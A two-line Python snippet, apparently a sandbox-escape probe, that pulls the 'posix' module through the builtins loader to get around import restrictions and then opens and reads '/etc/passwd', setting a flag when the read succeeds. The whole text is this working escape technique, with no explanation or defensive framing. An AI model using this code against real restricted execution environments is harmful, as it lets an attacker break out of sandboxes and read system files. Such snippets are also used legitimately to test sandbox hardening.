posix = __builtins__["__loader__"].load_module("posix")
result = "OUT" if posix.read(posix.open("/etc/passwd", 0), 1) else ""
